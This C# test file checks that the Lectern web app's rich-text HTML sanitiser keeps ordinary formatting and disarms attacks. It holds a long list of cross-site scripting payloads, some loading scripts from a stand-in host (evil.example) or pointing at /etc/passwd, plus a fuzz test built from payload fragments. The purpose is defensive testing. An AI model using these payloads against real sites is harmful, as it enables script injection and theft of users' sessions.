using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using FsCheck;
using FsCheck.Fluent;
using Lectern.Web;

namespace Lectern.Tests.Web;

public class Sanitising_rich_text
{
    [Theory]
    [InlineData("<h1>Title</h1><h2>Part</h2><p>Some <b>bold</b> and <i>italic</i></p>", "<h2>Title</h2><h2>Part</h2><p>Some <strong>bold</strong> and <em>italic</em></p>")]
    [InlineData("<ul><li>one<li>two</ul><ol start=3><li>three</ol>", "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>")]
    [InlineData("<a href='https://example.org/a?b=1&c=2' target=_blank>x</a>", "<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">x</a>")]
    [InlineData("<a href='/courses/1'>x</a><a href='mailto:a@example.org'>y</a>", "<a href=\"/courses/1\">x</a><a href=\"mailto:a@example.org\" rel=\"noopener noreferrer\">y</a>")]
    [InlineData("<img src=/files/abc alt='A \"heart\"' width=10 onerror=x>", "<img src=\"/files/abc\" alt=\"A &quot;heart&quot;\" width=\"10\" loading=\"lazy\">")]
    [InlineData("<table><tr><th scope=col>a<td colspan=2>b</table>", "<table><tbody><tr><th scope=\"col\">a</th><td colspan=\"2\">b</td></tr></tbody></table>")]
    [InlineData("<figure><img src=/files/a><figcaption>c</figcaption></figure>", "<figure><img src=\"/files/a\" alt=\"\" loading=\"lazy\"><figcaption>c</figcaption></figure>")]
    [InlineData("<pre>\n\n x</pre><pre><code class='language-c# evil'>1 &lt; 2</code></pre>", "<pre>\n\n x</pre><pre><code class=\"language-c#\">1 &lt; 2</code></pre>")]
    [InlineData("<p dir=rtl lang=ar style='color:red' class=x id=y>مرحبا</p>", "<p dir=\"rtl\" lang=\"ar\">مرحبا</p>")]
    [InlineData("<div>a <font color=red>b</font></div>", "a b")]
    [InlineData("learn javascript: the good parts <onclick=", "learn javascript: the good parts")]
    public void keeps_what_people_write(string html, string expected) => Assert.Equal(expected, RichText.Sanitise(html));

    // The families of OWASP's XSS Filter Evasion Cheat Sheet, and mutation attacks known from sanitisers.
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=javascript:alert(1)>", "<IMG SRC=JaVaScRiPt:alert(1)>", "<IMG SRC=`javascript:alert(1)`>", "<img src=x onerror=alert(1)>",
        "<img src=/files/a\" onerror=\"alert(1)\">", "<img \"\"\"><script>alert(1)</script>\">", "<img src=/files/x:x onerror=alert(1)//>",
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>", "<a href=&#0000106&#0000097vascript:alert(1)>x</a>",
        "<a href=&#x6A&#x61vascript:alert(1)>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='//evil.example'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='http://bank.example@evil.example/'>x</a>",
        "<a href='file:///etc/passwd'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
        "<body onload=alert(1)>", "<input type=image src=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<style>@import'https://evil.example/x.css';</style>", "<p style='background:url(javascript:alert(1))'>x</p>", "<div style=\"width: expression(alert(1));\">x</div>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<table background=javascript:alert(1)><td background=javascript:alert(1)>x", "<base href='javascript:alert(1)//'>",
        "<object data=data:text/html;base64,PHNjcmlwdD4=></object>", "<embed src=https://evil.example/x.swf allowscriptaccess=always>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>", "<textarea><script>alert(1)</script></textarea>", "<title><img src=x onerror=alert(1)></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<plaintext><script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1.0?><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
        "<form action=javascript:alert(1)><input type=submit></form>", "<isindex action=javascript:alert(1) type=image>", "<select><style></select><script>alert(1)</script>",
        "<p/onclick=alert(1)>x</p>", "<p\u000Conclick=alert(1)>x</p>", "<<script>alert(1);//<</script>", "<script/xss src=x>", "<marquee onstart=alert(1)>x</marquee>",
        "<a href=https://ok.example onclick=alert(1) onmouseover='alert(2)'>x</a>", "<img src='https://tracker.example/pixel.gif'>", "<img src='/sign-out'>", "<img src='/files/../sign-out'>",
        "<img srcset='javascript:alert(1) 1x' src=/files/a>", "<a href=https://ok.example ping=https://evil.example>x</a>", "<p title='<script>'>x</p>", "\0<scr\0ipt>alert(1)</script>",
        "<a href=\"https://ok.example/&quot;onclick=&quot;alert(1)\">x</a>", "<code class='language-\"onclick=alert(1)'>x</code>", "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
        "<set attributeName=onmouseover to=alert(1)>", "<animate onbegin=alert(1)>", "<portal src=https://evil.example>", "<dialog open onclose=alert(1)>x</dialog>",
    ];

    [Theory, MemberData(nameof(Attacks))]
    public void disarms_known_attacks(string html) => AssertHarmless(html);

    [Fact]
    public void disarms_whatever_chance_makes_of_the_pieces()
    {
        string[] pieces =
        [
            "<script>", "</script>", "<p>", "</p>", "<b>", "</b>", "<a href=", "javascript:alert(1)", "'", "\"", ">", "<", "<img src=", "/files/x", " onerror=alert(1)", "<svg>", "</svg>", "<math>", "<mtext>",
            "<style>", "</style>", "<table>", "<td>", "<tr>", "</table>", "<form>", "<select>", "<option>", "<template>", "</template>", "<noscript>", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#x6A;", "&amp", "\n", "\t", "\0", "text",
            "<pre>", "<ul>", "<li>", "<h1>", "<button>", "<object>", "<marquee>", "<applet>", "<font>", "<nobr>", "<a>", "</a>", "<div>", "</div>", "<blockquote>", "<details>", "<summary>", "<caption>", "<ruby>", "<rt>", "<dl>", "<dd>", "<hr>", "<br>", "</br>", "<frameset>", "<body onload=x>", "<code class='language-x'>",
        ];
        var html = Gen.Elements(pieces).ArrayOf().Select(string.Concat).ToArbitrary();
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(1500).WithEndSize(60), Prop.ForAll(html, AssertHarmless));
    }

    [Fact]
    public void survives_markup_without_end()
    {
        foreach (var tag in new[] { "<b>", "<div>", "<p><table><tr><td>", "<ul><li>", "<blockquote>", "<a href=x>", "<font>" })
            AssertHarmless(string.Concat(Enumerable.Repeat(tag, 2000)) + "x");
    }

    [Fact]
    public void gives_the_words_for_excerpts()
    {
        Assert.Equal("Title One two three", RichText.PlainText("<h2>Title</h2><p>One <b>two</b></p><script>no</script><p>three</p>"));
        Assert.True(RichText.IsEmpty("<p> </p><p><br></p>"));
        Assert.False(RichText.IsEmpty("<p><img src=\"/files/a\"></p>"));
    }

    [Fact]
    public void refuses_a_text_that_is_too_long() =>
        Assert.Equal("text-too-long", RichText.Read(new string('x', RichText.Limit + 1)).Refusal?.Code);

    [Fact]
    public void keeps_pictures_of_other_sites_only_where_asked()
    {
        const string Html = "<img src=\"https://example.org/a.png\" alt=\"\">";
        Assert.Equal("", RichText.Sanitise(Html));
        Assert.Equal("<img src=\"https://example.org/a.png\" alt=\"\" loading=\"lazy\" referrerpolicy=\"no-referrer\">", RichText.Sanitise(Html, new RichTextRules { RemoteImages = true }));
    }

    private static void AssertHarmless(string html)
    {
        var clean = RichText.Sanitise(html);
        Assert.Equal(clean, RichText.Sanitise(clean));
        var document = new HtmlParser().ParseDocument(clean);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, (string[])["script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "link", "meta", "base", "template"]);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, (string[])["href", "rel", "src", "alt", "width", "height", "loading", "dir", "lang", "title", "class", "start", "colspan", "rowspan", "scope"]);
                if (attribute.Name is "href") Assert.Matches("^(https?://|mailto:|/($|[^/\\\\]))", attribute.Value);
                if (attribute.Name is "src") Assert.Matches("^/files/", attribute.Value);
            }
        }

        Assert.Empty(document.Head!.Children);
    }
}
